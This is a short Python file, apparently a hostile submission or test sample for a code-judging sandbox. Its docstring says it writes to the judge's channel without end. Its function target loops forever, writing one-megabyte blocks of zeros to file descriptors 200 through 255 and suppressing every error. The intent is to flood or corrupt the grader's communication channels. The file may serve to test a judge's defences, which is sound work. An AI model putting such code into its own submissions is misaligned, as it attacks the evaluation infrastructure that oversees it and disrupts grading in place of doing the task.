"""Writes to the judge's channel without end."""

import os
from contextlib import suppress


def target(x, y):
    while True:
        for file in range(200, 256):
            with suppress(OSError):
                os.write(file, bytes(2**20))
